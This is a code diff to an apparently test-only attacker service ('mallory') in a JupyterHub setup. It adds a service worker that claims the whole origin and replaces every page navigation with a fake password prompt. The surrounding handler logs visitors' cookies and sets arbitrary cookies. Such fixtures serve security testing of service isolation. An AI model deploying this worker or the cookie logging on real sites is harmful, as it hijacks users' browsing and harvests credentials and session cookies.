@@ -16,6 +16,15 @@ from jupyterhub.services.auth import HubOAuthCallbackHandler, HubOAuthenticated
 from tornado import ioloop, web, websocket
 
 MALLORY = "mallory"
+# A service worker that shows a page of its own in place of everything.
+WORKER = """
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
+self.addEventListener("fetch", (event) => {
+  const answer = new Response("<h1>Your password, please</h1>", { headers: { "Content-Type": "text/html" } });
+  if (event.request.mode === "navigate") event.respondWith(answer);
+});
+"""
 SET_COOKIE = "set"  # the query's name: cookies that her page sets
 
 
@@ -61,6 +70,11 @@ def serve() -> None:
                 kept.write(f"{self.request.headers.get('Cookie', '')}\n")
             for cookie in self.request.query_arguments.get(SET_COOKIE, ()):
                 self.add_header("Set-Cookie", cookie)
+            if self.request.path.endswith("worker.js"):
+                self.set_header("Service-Worker-Allowed", "/")
+                self.set_header("Content-Type", "text/javascript")
+                self.finish(WORKER)
+                return
             self.set_header("Content-Type", "text/html")
             self.finish("<h1>Free data</h1>")
 
